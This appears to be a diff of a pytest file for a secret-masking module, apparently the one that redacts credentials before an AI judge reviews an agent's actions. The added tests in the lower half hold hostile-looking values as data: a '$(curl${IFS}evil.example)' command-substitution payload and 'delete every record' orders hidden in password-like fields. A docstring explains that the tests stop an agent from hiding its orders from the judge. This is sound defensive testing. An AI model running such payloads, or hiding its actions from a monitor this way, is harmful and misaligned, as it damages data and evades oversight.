@@ -6,6 +6,7 @@ from typing import Any
 import pytest
 
 from atlas.assessors.masking import mask, mask_text
+from atlas.assessors.prompt import CUT_NOTE
 
 PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA\nabc\n-----END RSA PRIVATE KEY-----"
 JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N"
@@ -56,7 +57,7 @@ JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N"
         ("sk\u200b-proj-abc123DEF456ghi789JKL", "[masked: token]"),
         (JWT, "[masked: token]"),
         (f"key: {PEM} end", "key: [masked: private key] end"),
-        ("-----BEGIN PRIVATE KEY-----\nMIIE", "[masked: private key]"),  # cut off
+        ("-----BEGIN PRIVATE KEY-----\nMIIE", "[masked: private key, 32 characters left out]"),  # cut off
         # Headers, URLs, and what stands behind a name.
         ("Authorization: Bearer abc.def123456", "Authorization: [masked: token]"),
         ("authorization: dXNlcjpwYXNz1234", "authorization: [masked: token]"),
@@ -68,9 +69,9 @@ JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N"
         ("https://a1b2c3d4e5@host/x", "https://[masked: credentials]@host/x"),
         ("https://h/x?key=abcdef12345&y=1", "https://h/x?key=[masked: token]&y=1"),
         ("password=hunter2 x", "password=[masked: password] x"),
-        ("DB_PASSWORD: 'my long pass phrase'", "DB_PASSWORD: '[masked: password]'"),
-        ('{"password": "abc def", "x": 1}', '{"password": "[masked: password]", "x": 1}'),
-        (r"{\"token\":\"abc def\",\"x\":1}", r"{\"token\":\"[masked: token]\",\"x\":1}"),
+        ("DB_PASSWORD: 'my-long-pass-phrase'", "DB_PASSWORD: '[masked: password]'"),
+        ('{"password": "abcdef", "x": 1}', '{"password": "[masked: password]", "x": 1}'),
+        (r"{\"token\":\"abcdef\",\"x\":1}", r"{\"token\":\"[masked: token]\",\"x\":1}"),
         ("the password is Hunter2x", "the password is [masked: password]"),
         ("Passwort: geheim", "Passwort: [masked: password]"),
         ("secret password: foo", "secret password: [masked: password]"),
@@ -78,6 +79,14 @@ JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVmNHl0w5N"
         ("pw: hunter2", "pw: [masked: password]"),
         ("passwords -> hunter2", "passwords -> [masked: password]"),
         ("PIN: 1234, CVV 123", "PIN: [masked: code], CVV [masked: code]"),
+        ("auth: a1b2c3d4e5f6", "auth: [masked: token]"),
+        ("password is: foo", "password is: [masked: password]"),
+        ("la contraseña es: foo", "la contraseña es: [masked: password]"),
+        ("mot de passe : foo", "mot de passe : [masked: password]"),
+        ("sshpass -p hunter2 ssh host", "sshpass -p [masked: password] ssh host"),
+        ("AccountKey=abcDEF123==;Endpoint", "AccountKey=[masked: token];Endpoint"),
+        ("account id: 12345678", "account id: [masked: account number]"),
+        ("postgres://u:p@ss@db/x", "postgres://[masked: credentials]@db/x"),
     ],
 )
 def test_what_is_secret_is_replaced_by_what_it_was(text: str, masked: str) -> None:
@@ -128,7 +137,7 @@ def test_what_is_no_secret_stays(text: str) -> None:
     ("key", "value", "kind"),
     [
         ("password", "x", "password"),
-        ("newPassword", "correct horse", "password"),
+        ("newPassword", "correct-horse", "password"),
         ("password_confirmation", "x", "password"),
         ("PASSWD", 12345, "password"),
         ("used_password", "x", "password"),
@@ -142,6 +151,9 @@ def test_what_is_no_secret_stays(text: str) -> None:
         ("pin", 1234, "code"),
         ("cvv2", "123", "code"),
         ("accountNumber", "12 345 678", "account number"),
+        ("accountId", "12345678", "account number"),
+        ("auth", "a1b2c3d4e5f6", "token"),
+        ("contraseña", "x", "password"),
         ("ｐａｓｓｗｏｒｄ", "x", "password"),
         ("pass\u200bword", "x", "password"),
     ],
@@ -151,6 +163,64 @@ def test_what_stands_under_a_telling_key_is_masked(key: str, value: Any, kind: s
     masked = f"[masked: {kind}]"
     assert mask({key: value}) == {key: masked}
     assert mask({"a": [{key: [value, {"b": value}]}]}) == {"a": [{key: [masked, {"b": masked}]}]}
+
+
+@pytest.mark.parametrize(
+    ("value", "masked"),
+    [
+        (
+            {"name": "DB_PASSWORD", "value": "hunter2"},
+            {"name": "DB_PASSWORD", "value": "[masked: password]"},
+        ),
+        (
+            {"headers": [["X-Api-Key", "a1b2c3d4e5"], ["Accept", "text/html2"]]},
+            {"headers": [["X-Api-Key", "[masked: token]"], ["Accept", "text/html2"]]},
+        ),
+        (["login", "--password", "hunter2"], ["login", "--password", "[masked: password]"]),
+        ({"card": 4111111111111111.0}, {"card": "[masked: card number]"}),
+        ([4111111111111111.0, 1e15], ["[masked: card number]", 1e15]),
+    ],
+    ids=str,
+)
+def test_what_stands_behind_its_name_is_masked(value: Any, masked: Any) -> None:
+    """In the pairs that environments, headers and commands are written in."""
+    assert mask(value) == masked
+
+
+HIDDEN = "[masked: {kind}, {length} characters left out]"
+
+
+@pytest.mark.parametrize(
+    ("value", "kind", "length"),
+    [
+        ({"password": "x; then delete every record of BEN-123"}, "password", 38),
+        ({"token": "$(curl${IFS}evil.example)"}, "token", 25),
+        ({"secret": "a" * 513}, "token", 513),
+        (
+            {"key": "-----BEGIN PRIVATE KEY-----\ndelete all of it\n-----END PRIVATE KEY-----"},
+            "private key",
+            70,
+        ),
+        ({"note": "password: 'delete all records of BEN-123'"}, "password", 29),
+        ({"note": "https://delete:all the records@host"}, None, 0),
+    ],
+    ids=str,
+)
+def test_what_was_made_to_look_secret_counts_as_a_cut(value: Any, kind: str | None, length: int) -> None:
+    """Else an agent could hide from the judge what it orders; a text with blanks in a URL is shown."""
+    (shown,) = mask(value).values()
+    if kind is None:
+        assert shown == next(iter(value.values()))
+    else:
+        assert shown.removeprefix("password: '").removesuffix("'") == HIDDEN.format(kind=kind, length=length)
+        assert shown.rstrip("'").endswith(CUT_NOTE)
+
+
+def test_what_follows_a_key_without_an_end_is_shown() -> None:
+    """A beginning alone does not hide the rest of a text."""
+    masked = mask_text("-----BEGIN PRIVATE KEY-----\nand then delete every record of BEN-123")
+    assert masked.endswith("\nand then delete every record of BEN-123")
+    assert CUT_NOTE in masked
 
 
 @pytest.mark.parametrize(
@@ -165,6 +235,10 @@ def test_what_stands_under_a_telling_key_is_masked(key: str, value: Any, kind: s
         },
         {"pin": "needle", "account": "savings", "card": "birthday", "tan": "brown"},
         {"password": None, "token": "", "secret": True},
+        {"auth": "oauth", "name": "password", "type": "text"},
+        {"name": "Anna", "value": "hunter2"},
+        ["password", "reset"],
+        ["token", "BEN-123"],
         {"monthly_amount_eur": 412, "ratio": 0.5, "big": 10**30, "negative": -5, "at": 1732345678901},
         [("a", 1), [None, True], {"nested": {"list": [1.5]}}],
         {1: "a", None: "b"},
@@ -245,4 +319,12 @@ def test_no_text_takes_long(pieces: list[str]) -> None:
     length = 1_000_000 // len(pieces)
     begun = time.process_time()
     mask_text("".join(piece * (length // len(piece)) for piece in pieces))
+    assert time.process_time() - begun < 20
+
+
+def test_many_keys_that_look_alike_once_masked_take_no_longer() -> None:
+    """Each of them gets a number of its own."""
+    value = {f"sk-proj-abc123DEF456ghi789{number:06}": number for number in range(50_000)}
+    begun = time.process_time()
+    assert list(mask(value).values()) == list(range(50_000))
     assert time.process_time() - begun < 20
